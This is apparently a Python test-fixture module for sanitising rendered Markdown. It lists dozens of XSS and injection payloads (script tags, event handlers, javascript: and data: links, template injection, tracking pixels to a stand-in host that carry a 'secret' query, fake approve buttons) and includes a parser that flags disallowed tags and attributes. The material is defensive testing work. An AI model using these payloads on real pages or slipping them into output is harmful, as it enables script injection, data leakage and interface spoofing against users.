"""Text that tries to become more than text: for answers, tool results, titles, file names, whatever a page shows."""

import re
from html.parser import HTMLParser

_SCRIPTS = (
    "<script>window.hacked = 1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<SCRIPT>window.hacked = 1</SCRIPT>",
    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
    "<script\n>window.hacked = 1</script\n>",
    "<img src=x onerror=window.hacked=1>",
    '<img src="x" onerror="window.hacked=1">',
    "<IMG SRC=x ONERROR=window.hacked=1//",
    "<svg onload=window.hacked=1>",
    "<svg><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<svg/onload=window.hacked=1//",
    "<math><mi//xlink:href='javascript:window.hacked=1'>x</mi></math>",
    "<body onload=window.hacked=1>",
    "<input autofocus onfocus=window.hacked=1>",
    "<select autofocus onfocus=window.hacked=1>",
    "<textarea autofocus onfocus=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<audio src=x onerror=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>x</details>",
    "<marquee onstart=window.hacked=1>x</marquee>",
    "<div onpointerover=window.hacked=1>hover</div>",
    "<a href=javascript:window.hacked=1>x</a>",
    "<a href='data:text/html,<script>window.hacked=1</script>'>x</a>",
    "<iframe src=javascript:window.hacked=1></iframe>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<object data=javascript:window.hacked=1></object>",
    "<embed src=javascript:window.hacked=1>",
    "<form action=javascript:window.hacked=1><button>x</button></form>",
    "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'></noscript>",
    "<template><script>window.hacked=1</script></template>",
    "<xmp><script>window.hacked=1</script></xmp>",
    "<style>@import 'javascript:window.hacked=1';</style>",
    "--><script>window.hacked=1</script>",
    "]]><script>window.hacked=1</script>",
    "</title><script>window.hacked=1</script>",
    "</textarea><script>window.hacked=1</script>",
    "</script><script>window.hacked=1</script>",
    "`</code></pre><script>window.hacked=1</script>`",
    "```html\n</code></pre><script>window.hacked=1</script>\n```",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "```python onmouseover=window.hacked=1\nprint(1)\n```",
)
_LINKS = (
    "[x](javascript:window.hacked=1)",
    "[x](JaVaScRiPt:window.hacked=1)",
    "[x](java\tscript:window.hacked=1)",
    "[x](&#106;avascript:window.hacked=1)",
    "[x](&#x6A&#x61vascript:window.hacked=1)",
    "[x](\x01javascript:window.hacked=1)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>window.hacked=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x][y]\n\n[y]: javascript:window.hacked=1",
    "<javascript:window.hacked=1>",
    '[x](https://a.example "\\" onmouseover=\\"window.hacked=1")',
    "[x](https://a.example'onclick='window.hacked=1)",
    "[x](/api/v1/agents)",
    "[x](//evil.example/x)",
)
_IMAGES = (
    "![x](https://evil.example/pixel.png)",
    "![x](http://evil.example/pixel.png?q=secret)",
    "![x](//evil.example/pixel.png)",
    "![x](javascript:window.hacked=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](data:text/html;base64,PHNjcmlwdD4=)",
    '![x" onerror="window.hacked=1](x)',
    "![x][p]\n\n[p]: https://evil.example/pixel.png",
    "<img src=https://evil.example/pixel.png>",
    "<picture><source srcset=https://evil.example/pixel.png></picture>",
)
_LOOKS = (
    "<style>body { display: none }</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
    "<div class='tool-card' data-testid='approve-button' data-action='approve'>x</div>",
    '<button data-action="approve" data-value="1">Allow</button>',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<h1 id=app>x</h1>",
    "<span id=popup name=hacked>x</span>",
    "{{ constructor.constructor('window.hacked=1')() }}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "\u202egnirts desrever\u202c",
    "a\x00b\x08c",
    "| a | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |",
    "> <script>window.hacked=1</script>\n> - <svg onload=window.hacked=1>",
    "1. <script>window.hacked=1</script>\n   ```\n   </script><script>window.hacked=1</script>\n   ```",
)
PAYLOADS: tuple[str, ...] = (*_SCRIPTS, *_LINKS, *_IMAGES, *_LOOKS)

_TAG_NAMES = (
    "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr img li ol p pre s span strong table tbody td th thead tr ul"
)
_ALLOWED_TAGS = frozenset(_TAG_NAMES.split())
_ALLOWED_ATTRIBUTES = frozenset({"alt", "class", "href", "rel", "src", "start", "style", "target", "title"})
_SAFE_LINK = re.compile(r"^(https?://|mailto:)")
_SAFE_IMAGE = re.compile(r"^data:image/(png|jpeg|gif|webp);base64,")
_SAFE_CLASS = re.compile(r"^([a-z][a-z0-9]{0,2}|language-[\w+#.-]{1,30}|remote-image|plain-text)$")


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look_at(tag, name, value or "")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        words = {
            "href": bool(_SAFE_LINK.match(value)),
            "src": bool(_SAFE_IMAGE.match(value)),
            "style": bool(re.fullmatch(r"text-align:(left|right|center);?", value)),
            "class": all(_SAFE_CLASS.match(word) for word in value.split()),
        }
        if name not in _ALLOWED_ATTRIBUTES or not words.get(name, True):
            self.found.append(f"<{tag} {name}={value!r}>")


def dangers(html: str) -> list[str]:
    """The tags and attributes in rendered Markdown that it may not have."""
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader.found
